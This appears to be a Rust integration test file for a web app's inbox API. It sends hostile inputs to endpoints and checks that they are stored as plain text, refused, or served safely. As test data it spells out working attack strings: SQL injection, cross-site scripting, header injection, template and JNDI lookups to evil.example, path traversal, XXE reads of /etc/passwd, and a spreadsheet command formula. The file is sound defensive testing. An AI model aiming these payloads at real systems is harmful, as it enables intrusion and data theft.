//! What strangers and broken programs send to an endpoint: line ends in one-line fields, scripts, SQL, paths, bodies too large or too deep.
//! The pure rows (names, HTML, MIME, search language) stand beside their parsers.

use axum::http::{Method, StatusCode};
use serde_json::{Value, json};
use testkit::{TestDb, db_test};

use crate::world::{Client, World};

/// Texts that mean something to a shell, a database, a browser, a mail program or a template.
const HOSTILE: &[&str] = &[
    "x\r\nBcc: evil@example.net\r\n\r\nbody",
    "x\nSubject: other",
    "x\rX-Evil: 1",
    "x\u{2028}Bcc: evil@example.net",
    "'; drop table inbox_messages; --",
    "\" or 1=1 --",
    "%' or '1'='1",
    "x' union select secret from access_tokens --",
    "$1 ? :name @p1",
    "\\'; select pg_sleep(9); --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "${jndi:ldap://evil.example/x}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie:%20qd_session=1",
    "\u{202e}gnp.exe",
    "x\0y",
    "=cmd|' /C calc'!A0",
    "😀\u{fffd}\u{10ffff}",
];

fn encoded(value: &str) -> String {
    value.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat()
}

async fn record(client: &Client, subject: &str, name: &str, text: &str) -> crate::world::Answer {
    let body = json!({"from": {"address": "eve@example.org", "name": name}, "subject": subject, "text": text});
    client.call(Method::POST, "/api/v1/inbox/messages", Some(body)).await
}

#[db_test(server::app::migrations)]
async fn hostile_texts_stay_texts(store: TestDb) {
    let (_world, administrator) = World::begin(&store).await;
    for hostile in HOSTILE {
        let made = record(&administrator, hostile, hostile, hostile).await;
        if made.status != StatusCode::CREATED {
            assert!(made.status == StatusCode::UNPROCESSABLE_ENTITY, "{hostile:?}: {} {}", made.status, made.body);
            continue;
        }
        let path = format!("/api/v1/inbox/conversations/{}", made.text("/conversation_id"));
        let conversation = administrator.call(Method::GET, &path, None).await;
        let thread = administrator.call(Method::GET, &format!("{path}/messages"), None).await;
        let message = &thread.body["items"][0];
        let html = message["html"].as_str().unwrap_or_default();
        assert!(!html.contains("<script") && !html.contains("<img") && !html.contains("<svg"), "{html}");
        for line in [&conversation.body["subject"], &message["subject"], &message["author"]["name"]] {
            let line = line.as_str().unwrap_or_else(|| panic!("no text: {line}"));
            assert!(!line.contains(['\r', '\n', '\0', '\u{2028}']), "{hostile:?} became {line:?}");
        }
    }
    // Everything is still there.
    let all = administrator.call(Method::GET, "/api/v1/inbox/conversations?view=all", None).await;
    assert!(all.body["items"].as_array().is_some_and(|items| items.len() > 10), "{}", all.body);
}

#[db_test(server::app::migrations)]
async fn hostile_searches_and_parameters_find_nothing_and_break_nothing(store: TestDb) {
    let (_world, administrator) = World::begin(&store).await;
    assert_eq!(record(&administrator, "Brakes", "Jonas", "They squeak.").await.status, StatusCode::CREATED);
    let searches =
        ["((((((((((", "\"", "status:", "created>99999999-99-99", "-", "a OR", "*", "tag:\"", "#99999999999999999999"];
    for hostile in HOSTILE.iter().chain(&searches) {
        for path in [
            "/api/v1/inbox/search?q=",
            "/api/v1/inbox/conversations?view=all&tag=",
            "/api/v1/inbox/conversations?view=",
            "/api/v1/inbox/conversations?cursor=",
            "/api/v1/customers/contacts?q=",
            "/api/v1/inbox/conversations/",
        ] {
            let answer = administrator.call(Method::GET, &format!("{path}{}", encoded(hostile)), None).await;
            assert!(answer.status.as_u16() < 500, "{path}{hostile:?}: {} {}", answer.status, answer.body);
            let is_problem = answer.status.is_success() || answer.body["code"].is_string();
            assert!(is_problem, "{path}{hostile:?}: {} {}", answer.status, answer.body);
        }
    }
    let everything =
        administrator.call(Method::GET, "/api/v1/inbox/search?q=squeak%27%20OR%20%271%27%3D%271", None).await;
    assert_eq!(everything.status, StatusCode::OK, "{}", everything.body);
}

#[db_test(server::app::migrations)]
async fn bodies_that_are_none_are_refused_with_a_problem(store: TestDb) {
    let (_world, administrator) = World::begin(&store).await;
    let deep = |open: &str, close: &str| format!("{}{}", open.repeat(100_000), close.repeat(100_000));
    let wide = format!("{{\"subject\":\"{}\"}}", "x".repeat(40 << 20));
    let rows: Vec<(&str, String, &[u16])> = vec![
        ("deep lists", deep("[", "]"), &[400, 413, 422]),
        ("deep objects", deep("{\"a\":", "}"), &[400, 413, 422]),
        ("a deep field", format!("{{\"from\":{}}}", deep("[", "]")), &[400, 413, 422]),
        ("too large", wide, &[413]),
        ("no JSON", "from=eve".to_owned(), &[400, 422]),
        ("half of it", "{\"from\":".to_owned(), &[400, 422]),
        ("two of them", "{} {}".to_owned(), &[400, 422]),
        ("another type", "[1,2,3]".to_owned(), &[400, 422]),
        ("a number out of range", "{\"subject\":1e999}".to_owned(), &[400, 422]),
        ("an unknown field", "{\"is_admin\":true}".to_owned(), &[400, 422]),
        (
            "XML with an entity",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".to_owned(),
            &[400, 422],
        ),
        ("half a character", "{\"subject\":\"\\ud800\"}".to_owned(), &[400, 422]),
        ("nothing", String::new(), &[400, 422]),
    ];
    for (name, body, allowed) in rows {
        let sent = Some(("application/json".to_owned(), body));
        let answer = administrator.send(Method::POST, "/api/v1/inbox/messages", sent).await;
        assert!(allowed.contains(&answer.status.as_u16()), "{name}: {} {}", answer.status, answer.body);
        assert!(answer.body["code"].is_string() && answer.body["title"].is_string(), "{name}: {}", answer.body);
        assert!(!answer.body.to_string().contains("root:"), "{name}");
    }
}

async fn upload(client: &Client, name: &str, media_type: &str, content: &str) -> crate::world::Answer {
    let body = format!(
        "--line\r\ncontent-disposition: form-data; name=\"file\"; filename=\"{name}\"\r\ncontent-type: {media_type}\r\n\r\n{content}\r\n--line--\r\n"
    );
    let sent = Some(("multipart/form-data; boundary=line".to_owned(), body));
    client.send(Method::POST, "/api/v1/inbox/attachments", sent).await
}

#[db_test(server::app::migrations)]
async fn files_keep_no_path_and_never_become_a_page_of_ours(store: TestDb) {
    let (_world, administrator) = World::begin(&store).await;
    for (name, kept) in [
        ("../../../etc/cron.d/evil", "evil"),
        ("/etc/passwd", "passwd"),
        ("C:\\\\Windows\\\\system.ini", "system.ini"),
        ("NUL.txt", "_NUL.txt"),
        ("invoice\u{202e}fdp.exe", "invoice fdp.exe"),
    ] {
        let made = upload(&administrator, name, "text/plain", "x").await;
        assert_eq!((made.status, made.text("/name").as_str()), (StatusCode::CREATED, kept), "{}", made.body);
    }
    let long = upload(&administrator, &format!("{}.txt", "x".repeat(4_000)), "text/plain", "x").await;
    assert!(long.text("/name").len() < 255 && long.text("/name").contains(".txt"), "{}", long.body);
    for (media_type, content) in [
        ("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        ("text/html", "<script>alert(1)</script>"),
        ("application/xhtml+xml", "<html xmlns=\"http://www.w3.org/1999/xhtml\"/>"),
        (
            "text/xml",
            "<?xml-stylesheet href=\"x.xsl\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        ),
        ("application/javascript", "alert(1)"),
        ("text/html; charset=utf-7", "+ADw-script+AD4-"),
    ] {
        let made = upload(&administrator, "x", media_type, content).await;
        assert_eq!(made.body["preview_url"], Value::Null, "{media_type}");
        let path = format!("{}?disposition=inline", made.text("/url"));
        let shown = administrator.call(Method::GET, &path, None).await;
        let header = |name: &str| shown.headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or_default();
        assert!(header("content-disposition").starts_with("attachment;"), "{media_type}: {:?}", shown.headers);
        assert!(header("content-security-policy").starts_with("sandbox;"), "{media_type}: {:?}", shown.headers);
        assert_eq!(header("x-content-type-options"), "nosniff", "{media_type}");
    }
}
